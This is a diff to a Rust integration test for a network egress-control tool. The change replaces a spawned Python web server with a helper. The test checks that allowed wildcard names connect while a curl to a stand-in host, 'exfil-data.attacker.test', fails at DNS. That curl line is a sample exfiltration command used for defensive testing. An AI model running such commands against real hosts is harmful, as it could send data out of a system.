@@ -9,8 +9,8 @@ use std::{
 };
 
 use netcontrol_tests::{
-    Attached, Probe, dns::Dnsmasq, dns::private_resolv_conf, find_event, isolate_network,
-    kernel_tests_enabled, netcontrol, policy_file, probe_bin, servers, show, tcp, within,
+    Attached, HttpServer, Probe, dns::Dnsmasq, dns::private_resolv_conf, find_event,
+    isolate_network, kernel_tests_enabled, netcontrol, policy_file, probe_bin, servers, show, tcp,
     write_atomic,
 };
 use nix::{
@@ -57,14 +57,7 @@ fn wildcard_names_connect_and_exfiltration_fails_at_dns() {
     let _resolv = private_resolv_conf(dns.addr);
     dns.set("a.b.example.test", &["127.0.0.20"]);
     dns.set("exfil-data.attacker.test", &["127.0.0.30"]);
-    let mut http = Command::new("python3")
-        .args(["-m", "http.server", "80", "--bind", "127.0.0.20"])
-        .stdout(Stdio::null())
-        .stderr(Stdio::null())
-        .spawn()
-        .expect("http.server");
-    within(Duration::from_secs(10), || std::net::TcpStream::connect("127.0.0.20:80").is_ok())
-        .expect("http up");
+    let _http = HttpServer::start("127.0.0.20", 80);
     let dir = tempfile::tempdir().expect("tempdir");
     let policy = policy_file(dir.path(), "allow: [\"**.example.test:80\"]\n");
     let events = dir.path().join("events.jsonl");
@@ -80,8 +73,6 @@ fn wildcard_names_connect_and_exfiltration_fails_at_dns() {
         "curl -sS -m 5 -o /dev/null -w '%{http_code} %{remote_ip}\\n' http://a.b.example.test/; \
          curl -sS -m 5 http://exfil-data.attacker.test/ || echo exit $?",
     ]);
-    let _ = http.kill();
-    let _ = http.wait();
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert_eq!(stdout.lines().collect::<Vec<_>>(), ["200 127.0.0.20", "exit 6"], "{}", show(&out));
     let stderr = String::from_utf8_lossy(&out.stderr);
